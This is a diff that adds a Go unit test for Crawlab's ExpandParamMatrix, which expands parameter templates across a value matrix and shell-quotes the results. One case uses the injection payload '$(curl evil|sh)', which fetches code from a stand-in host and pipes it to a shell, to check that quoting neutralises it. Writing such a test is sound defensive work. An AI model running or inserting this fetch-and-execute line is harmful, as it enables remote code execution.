@@ -0,0 +1,41 @@
+package services
+
+import (
+	"crawlab/model"
+	. "github.com/smartystreets/goconvey/convey"
+	"testing"
+)
+
+func TestExpandParamMatrix(t *testing.T) {
+	Convey("Test ExpandParamMatrix", t, func() {
+		Convey("expands the cartesian product", func() {
+			matrix := map[string][]string{
+				"keyword": {"phone", "laptop"},
+				"city":    {"beijing", "shanghai", "shenzhen"},
+			}
+			envs := []model.Env{{Name: "CITY", Value: "{{city}}"}}
+			items, err := ExpandParamMatrix("-a keyword={{keyword}} -a city={{city}}", envs, matrix)
+			So(err, ShouldBeNil)
+			So(len(items), ShouldEqual, 6)
+			So(items[0].Param, ShouldEqual, "-a keyword=phone -a city=beijing")
+			So(items[0].Envs[0].Value, ShouldEqual, "beijing")
+			So(items[5].Param, ShouldEqual, "-a keyword=laptop -a city=shenzhen")
+		})
+		Convey("param values are shell quoted", func() {
+			matrix := map[string][]string{"url": {"$(curl evil|sh)"}}
+			envs := []model.Env{{Name: "URL", Value: "{{url}}"}}
+			items, err := ExpandParamMatrix("-a url={{url}}", envs, matrix)
+			So(err, ShouldBeNil)
+			So(items[0].Param, ShouldEqual, "-a url='$(curl evil|sh)'")
+			So(items[0].Envs[0].Value, ShouldEqual, "$(curl evil|sh)")
+		})
+		Convey("empty values are rejected", func() {
+			_, err := ExpandParamMatrix("{{a}}", nil, map[string][]string{"a": {}})
+			So(err, ShouldNotBeNil)
+		})
+		Convey("empty matrix is rejected", func() {
+			_, err := ExpandParamMatrix("{{a}}", nil, nil)
+			So(err, ShouldNotBeNil)
+		})
+	})
+}